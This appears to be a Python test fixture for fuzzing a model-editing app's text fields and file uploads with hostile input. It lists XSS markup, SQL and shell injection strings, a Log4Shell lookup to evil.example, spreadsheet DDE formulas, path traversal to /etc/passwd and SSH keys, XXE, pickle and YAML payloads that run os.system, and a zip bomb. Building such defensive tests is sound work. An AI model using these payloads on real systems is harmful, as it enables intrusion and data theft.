"""Text and files that nobody means well with. `TEXTS` go into fields and addresses, `FILES` into uploads."""

from __future__ import annotations

import base64
import gzip
import io
import json
import zipfile

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</style><b>out</b>",
    "</dd></dl><h1>big</h1>",
    "</span></div><form action=//evil><input name=p>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=x.swf>",
    "<embed src=x>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose</x>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<b>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "<b>bold</b>",
    "<i>x",
    "<br>broken",
    "&lt;b&gt;",
    "&#60;script&#62;",
    "&amp;lt;",
    "&nbsp;",
    "<\x00script>alert(1)</script>",
    "<scr\nipt>",
    "< script >",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "vbscript:msgbox(1)",
    "expression(alert(1))",
    "<template><s>",
    "<textarea></textarea><b>",
    "<title></title><b>x",
    "<mark>m</mark>",
    "<sub>2</sub><sup>3</sup>",
    "<span style='color:red'>r</span>",
    "a<extra></extra>b",
)

MARKDOWN = (
    "**bold**",
    "__bold__",
    "*it*",
    "~~gone~~",
    "# heading",
    "###### small",
    "> quoted",
    "- item",
    "1. item",
    "`code`",
    "```\nblock\n```",
    "[link](https://evil.example)",
    "[x](javascript:alert(1))",
    "![pic](https://evil.example/p.png)",
    "<https://evil.example>",
    "https://evil.example/login",
    "[ref]: https://evil.example",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "---",
    "***",
    "[^1]: note",
    "- [ ] task",
    "\\*not\\*",
    "line\\\nbreak",
    "<details><summary>x</summary></details>",
    ":red[danger]",
    ":red-background[x]",
    ":material/home:",
    ":smile:",
    ":small[x]",
    ":badge[x]",
    ":green-badge[:material/check: ok]",
    ":rainbow[x]",
    ":streamlit:",
    "$x^2$",
    "$$\\frac{1}{0}$$",
    "\\(x\\)",
    "\\[y\\]",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\unicode{60}$",
    "\\begin{align}x\\end{align}",
    "$\\def\\x{\\x\\x}\\x$",
    "[[x]]",
    "{{7*7}}",
    "==x==",
    "<kbd>k</kbd>",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "＝1+1",
    'DDE("cmd";"/C calc";"a")',
    "=2+5+cmd|' /C calc'!A0",
)

CODE = (
    "'; DROP TABLE runs; --",
    '" OR 1=1 --',
    "' UNION SELECT access_code FROM runs --",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "%' OR '1'='1",
    "a' LIKE '%",
    "${jndi:ldap://evil.example/a}",
    "{{config}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "__import__('os').system('id')",
    "eval('1')",
    "{0}",
    "{}",
    "{}{}",
    "{name}",
    "{0.__class__}",
    "{!r}",
    "{:>99999999}",
    "%s",
    "%n",
    "%(a)s",
    "%99999999d",
    "%x%x%x",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "&& id",
    "\nid\n",
    "$HOME",
    "~",
    "!!",
    "torch.load('x')",
    "cos\nsystem\n(S'id'\ntR.",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    '{"a": 1}',
    "<dict>",
    "\\N",
    "\\x00",
    "self.__init__",
    "constructor",
    "__proto__",
    "toString",
    "hasOwnProperty",
    "lambda: 0",
)

PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/dev/zero",
    "/dev/stdin",
    "/proc/self/environ",
    "file:///etc/passwd",
    "//evil.example/share",
    "\\\\evil.example\\share",
    "C:\\con",
    "con",
    "nul",
    "a/../../b",
    "./.",
    "..",
    ".",
    "/",
    "~root/.ssh/id_rsa",
    "%2e%2e%2fetc%2fpasswd",
    "a\x00.json",
    "x" * 300 + "/y",
    "https://evil.example/m",
    "org/model/../../x",
    "-rf",
    "--help",
    "a b/c d",
    "*",
    "?",
    "runs/../runs.sqlite",
    "CLOCK$",
    "a:b",
)

NUMBERS = (
    "0",
    "-0",
    "-1",
    "1e309",
    "-1e309",
    "nan",
    "NaN",
    "inf",
    "-Infinity",
    "1e-400",
    "9" * 40,
    "9" * 5000,
    "0x10",
    "1_000",
    "١٢٣",
    "１２",
    "²",
    "Ⅷ",
    "1,5",
    "1.",
    ".5",
    "+5",
    "0-99999",
    "0-",
    "-5-",
    "5-1",
    "1,,2",
    "1-2-3",
    "2147483648",
    "9223372036854775808",
    "0.1.2",
)

UNICODE = (
    "\x00",
    "a\x00b",
    "\x07\x08\x1b[31mred\x1b[0m",
    "\x7f",
    "\x85",
    "\u2028line",
    "\u2029paragraph",
    "\ufeffbom",
    "\u202eevil\u202c",
    "\u2066isolate\u2069",
    "\u2067x",
    "\u200b",
    "\u200b\u200c\u200d",
    "\u2060",
    "\u00ad",
    "\u034f",
    "a\u0301\u0302\u0303\u0304\u0305" * 20,
    "Z\u0351\u036b\u0343" * 30,
    "e\u0301",
    "é",
    "ﬁ",
    "ﷺ",
    "İ",
    "ß",
    "ẞ",
    "ſ",
    "K",
    "𝕏𝖄",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇫🇷",
    "👍🏽",
    "\U0010ffff",
    "\U000e0041",
    "\ufffd",
    "\ufffe",
    "\uffff",
    "\ue000",
    "مرحبا",
    "שלום <b>",
    "ไทย",
    "漢字",
    "日本語の首都は",
    "ᚠᛇᚻ",
    "\t",
    "\r\n",
    "\n" * 50,
    " " * 200,
    "\u3000",
    "\u00a0",
    "a" * 3000,
    "word " * 700,
    "(" * 400,
    "<" * 400,
    "{" * 400,
    '"' * 300,
    "\\" * 300,
    "é" * 1500,
    "🙂" * 900,
)

MIXED = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "**bold** _it_", "$x^2$ $$y$$", "{0} {name} {{}}",
    ":red[x] :material/home:", "[link](javascript:alert(1))", "`code` ```", "🇫🇷 👩‍👩‍👧 ﷽", "مرحبا بالعالم",
    "שלום \u202eabc", "a\nb\tc", "'\"\\", "=HYPERLINK(\"x\")", "%s %(a)s %n", "&lt;b&gt; &amp;", "</style><b>",
    "\u0000\u0007", "#" * 50,
)  # fmt: skip

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys((*MARKUP, *MARKDOWN, *FORMULAS, *CODE, *PATHS, *NUMBERS, *UNICODE, *MIXED))
)  # over 200, see the test


def record(text: object, field: str = "subject") -> dict[str, object]:
    """A fact with a text in one of its fields."""
    fact = {"subject": "France", "prompt": "The capital of {} is", "target_new": "Rome", "target_true": "Paris"}
    if field == "prompt":
        return fact | {"prompt": f"{{}} {text}"}
    if field == "paraphrases":
        return fact | {"paraphrases": [text]}
    if field == "neighbours":
        return fact | {"neighbours": [[text, "so"]]}
    return fact | {field: text}


def table(field: str) -> str:
    """JSON lines of all texts in one field; what cannot be a fact is left out, lest it should hide the others."""
    from encore_core.errors import InputError
    from encore_core.facts import Fact

    lines = []
    for text in TEXTS:
        try:
            Fact(**record(text, field))
        except InputError:
            continue
        lines.append(json.dumps(record(text, field)))
    return "\n".join(lines)


def _zip_bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("facts.csv", b"0" * 10_000_000)
    return stream.getvalue()


_HEAD = "subject,prompt,target_new\n"
_GOOD = json.dumps(record("Peru"))

FILES: dict[str, bytes] = {
    "empty.csv": b"",
    "blank.json": b" \n\t ",
    "nul.csv": b"\x00" * 1000,
    "pickle.json": b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"
    b"\x8c\x02id\x94\x85\x94R\x94.",
    "old-pickle.json": b"cos\nsystem\n(S'touch /tmp/owned'\ntR.",
    "weights.json": (8).to_bytes(8, "little") + b"{}      ",
    "huge-header.json": (2**62).to_bytes(8, "little") + b'{"a":1}',
    "program.csv": b"\x7fELF\x02\x01\x01" + bytes(200),
    "page.csv": b"<!DOCTYPE html><script>alert(1)</script>",
    "bomb.csv": _zip_bomb(),
    "packed.json": gzip.compress(b"[" * 1_000_000),
    "deep.json": b"[" * 100_000,
    "deep-objects.json": b'{"a":' * 50_000,
    "deep-closed.json": b"[" * 20_000 + b"]" * 20_000,
    "numbers.json": b"[NaN, Infinity, -Infinity, 1e999]",
    "number.json": b"1" * 10_000,
    "number-as-text.json": b'[{"subject": %s, "prompt": "{} is", "target_new": "x"}]' % (b"9" * 6000),
    "duplicate-keys.json": b'[{"subject":"A","subject":"<b>B</b>","prompt":"{} is","target_new":"x"}]',
    "proto.json": b'[{"__proto__":{"subject":"A"},"prompt":"{} is","target_new":"x"}]',
    "types.json": b'[{"subject":{"a":1},"prompt":["{} is"],"target_new":null}]',
    "null.json": b"null",
    "text.json": b'"<script>alert(1)</script>"',
    "surrogates.json": b'[{"subject":"\\ud800","prompt":"{} is","target_new":"x"}]',
    "surrogates-in-answer.json": b'[{"subject":"A","prompt":"{} is","target_new":"\\udfff\\ud800"}]',
    "surrogates-in-key.json": b'[{"subject":"A","prompt":"{} is","target_new":"x","\\ud800":1}]',
    "escapes.json": b'[{"subject":"\\u0000\\u202e\\u003cscript\\u003e","prompt":"{} is","target_new":"x"}]',
    "latin.csv": _HEAD.encode() + "Málaga,{} is,España\n".encode("latin-1"),
    "utf-16.csv": (_HEAD + "A,{} is,x\n").encode("utf-16"),
    "utf-32.json": f"[{_GOOD}]".encode("utf-32"),
    "utf-7.csv": b"subject,prompt,target_new\n+ADw-script+AD4-,{} is,x\n",
    "ebcdic.csv": (_HEAD + "A,{} is,x\n").encode("cp500"),
    "overlong.csv": _HEAD.encode() + b"\xc0\xaf\xe0\x80\xaf,{} is,x\n",
    "cut-off.json": _GOOD.encode()[:-5],
    "cut-off-letter.csv": (_HEAD + "é,{} is,x").encode()[:-8],
    "open-quote.csv": _HEAD.encode() + b'"A,{} is,x\n' * 50,
    "many-columns.csv": b"subject,prompt,target_new" + b",x" * 50_000 + b"\nA,{} is,b\n",
    "wide-cell.csv": _HEAD.encode() + b"A,{} is," + b"x" * 1_000_000 + b"\n",
    "many-rows.csv": _HEAD.encode() + b"A,{} is,b\n" * 60_000,
    "many-paraphrases.csv": b"subject,prompt,target_new,paraphrases\nA,{} is,b," + b" | ".join([b"p"] * 30_000) + b"\n",
    "formulas.csv": _HEAD.encode() + b'"=cmd|\'/C calc\'!A0","{} is","@SUM(1)"\n',
    "semicolons.csv": b"subject;prompt;target_new\n<b>A</b>;{} is;$x$\n",
    "html-columns.csv": b"subject,prompt,target_new,<img src=x onerror=alert(1)>\nA,{} is,b,c\n",
    "counterfact.json": b'[{"requested_rewrite":"<b>"}]',
    "counterfact-deep.json": b'[{"requested_rewrite":{"subject":[],"prompt":{},"target_new":{"str":{}}}}]',
    "easyedit.json": b'[{"prompt":"{} is","ground_truth":[[[["<b>"]]]],"target_new":[[]],"subject":"A"}]',
    "zsre.json": b'[{"src":"<b>","subject":"<b>","alt":"","answers":{},"loc":1}]',
    "bom.jsonl": b"\xef\xbb\xbf" + _GOOD.encode() + b"\n\xef\xbb\xbf" + _GOOD.encode(),
    "cr-only.csv": _HEAD.replace("\n", "\r").encode() + b"A,{} is,b\r",
    "base64.txt": base64.b64encode(_GOOD.encode()),
    "yaml.txt": b"!!python/object/apply:os.system ['id']",
    "<img src=x onerror=alert(1)>.csv": b"a,b\n1,2\n",
    "..\\..\\evil.csv": b"a,b\n1,2\n",
    "$x^2$ **b** :red[x].json": b"{",
    "\u202egnp.csv": b"a,b\n",
    "x" * 250 + ".csv": b"a,b\n",
}
"""Name → content. Streamlit lets names end in what a field takes, so none ends otherwise."""

for _field in ("subject", "prompt", "target_new", "target_true", "paraphrases", "neighbours"):
    FILES[f"all-texts-as-{_field}.jsonl"] = table(_field).encode("utf-8", "surrogatepass")


def tensors(header: object, body: bytes = b"") -> bytes:
    """A file as safetensors lays it out, with any header."""
    told = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(told).to_bytes(8, "little") + told + body


_META = {"format": "encore-edits", "version": "1"}

EDIT_FILES: dict[str, bytes] = {
    "nothing": b"",
    "pickle": FILES["pickle.json"],
    "a table": b"subject,prompt,target_new\n",
    "huge header": (2**63 - 1).to_bytes(8, "little") + b"{}",
    "long header": (10**9).to_bytes(8, "little") + b"{" * 100,
    "no JSON": tensors(b"<script>alert(1)</script>"),
    "deep": tensors(b"[" * 200_000),
    "a list": tensors([1, 2]),
    "empty": tensors({}),
    "no metadata": tensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, bytes(4)),
    "offsets beyond": tensors({"a": {"dtype": "F32", "shape": [10**9], "data_offsets": [0, 4 * 10**9]}}, bytes(4)),
    "negative": tensors({"a": {"dtype": "F32", "shape": [-1], "data_offsets": [-4, 0]}}, bytes(4)),
    "unknown dtype": tensors({"a": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 4]}}, bytes(4)),
    "markup as metadata": tensors({"__metadata__": dict.fromkeys(("format", "edits"), "<img src=x onerror=alert(1)>")}),
    "numbers as metadata": tensors({"__metadata__": {"format": 1}}),
    "format alone": tensors({"__metadata__": _META}),
    "format and nonsense": tensors({"__metadata__": _META | {"edits": "[" * 50_000, "values": "{", "digest": "x"}}),
    "names that are paths": tensors(
        {"__metadata__": _META, "../../x": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}}, bytes(8)
    ),
}
"""What → content, for the field that takes edits as a file."""

_STEP = '[[step]]\ntitle = "{0}"\npage = "{0}"\nsay = "{0}"\n'

LESSONS: dict[str, bytes] = {
    "nothing": b"",
    "pickle": FILES["pickle.json"],
    "no UTF-8": b"title = '\xff'",
    "NUL": b"title = 'a\x00b'",
    "deep": b"a = " + b"[" * 50_000,
    "deep keys": b"a" + b".a" * 40_000 + b" = 1",
    "deep keys with blanks": b"[" + b"a . " * 20_000 + b"a]",
    "deep tables": b"a = " + b"{b=" * 5_000,
    "huge number": b"minutes = " + b"9" * 6000,
    "not a number": b"minutes = nan",
    "markup": ("title = '<script>alert(1)</script>'\n" + _STEP.format("<img src=x>")).encode(),
    "markdown": ("title = '**b** :red[x] $y$'\n" + _STEP.format("[x](javascript:alert(1))")).encode(),
    "elsewhere": ("title = 'x'\n" + _STEP.format("https://evil.example/")).encode(),
    "paths": ("title = 'x'\n" + _STEP.format("../../etc/passwd")).encode(),
    "types": b"title = 1\nstep = 'x'\ntask = {a = 1}\n",
    "many": b"title = 'x'\n" + b"[[step]]\ntitle = 'x'\n" * 5_000,
    "long": b"title = '" + b"x" * 300_000 + b"'",
}
"""What → content, for the field that takes a lesson plan."""
